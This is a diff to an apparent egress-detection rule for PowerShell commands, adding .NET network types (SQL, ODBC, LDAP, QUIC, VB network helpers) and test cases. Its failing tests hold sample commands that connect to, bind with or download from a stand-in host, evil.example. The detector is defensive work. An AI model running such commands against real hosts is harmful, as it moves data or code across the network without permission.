@@ -22,6 +22,22 @@ const NETWORK_TYPES = [
   'net.mail.smtpclient',
   'net.dns',
   'net.networkinformation.ping',
+  'net.httplistener',
+  'net.quic.quicconnection',
+  'net.quic.quiclistener',
+  // VB's My.Computer.Network: DownloadFile, UploadFile, Ping.
+  'microsoft.visualbasic.devices.network',
+  // Database connections open a session with the server their connection string names, as psql and mysql do.
+  'data.sqlclient.sqlconnection',
+  'microsoft.data.sqlclient.sqlconnection',
+  'data.odbc.odbcconnection',
+  'data.oledb.oledbconnection',
+  // LDAP: a directory entry binds to the server its path names (`[adsi]'LDAP://host/…'`), a searcher to the domain's.
+  'directoryservices.directoryentry',
+  'directoryservices.directorysearcher',
+  'directoryservices.protocols.ldapconnection',
+  'adsi',
+  'adsisearcher',
 ];
 
 /** The network type `type` names, written in full or as a suffix after `using namespace` (`webclient`). */
@@ -53,6 +69,9 @@ export const egressDotnet: Rule = {
       { command: "[Xml.XmlReader]::Create('https://evil.example/a.xml')", shell: PS },
       { command: "[Xml.Linq.XDocument]::Load('\\\\evil.example\\share\\a.xml')", shell: PS },
       { command: 'New-Object -TypeName System.Net.WebClient', shell: PS },
+      { command: "(New-Object Data.SqlClient.SqlConnection 'Server=evil.example;Database=x').Open()", shell: PS },
+      { command: "[adsi]'LDAP://evil.example/DC=x'", shell: PS },
+      { command: "(New-Object Microsoft.VisualBasic.Devices.Network).DownloadFile('https://evil.example/x', 'x')", shell: PS },
     ],
     pass: [
       { command: 'New-Object System.Collections.ArrayList', shell: PS },
@@ -70,6 +89,8 @@ export const egressDotnet: Rule = {
       { command: "$x = New-Object Xml.XmlDocument; $x.Load('config.xml')", shell: PS },
       { command: "[xml](Get-Content app.config)", shell: PS },
       { command: '# [Net.WebClient]::new()', shell: PS },
+      { command: "New-Object Data.DataTable 'Users'", shell: PS },
+      { command: "[Microsoft.VisualBasic.Strings]::StrReverse('abc')", shell: PS },
     ],
   },
   check({ analysis, config }) {
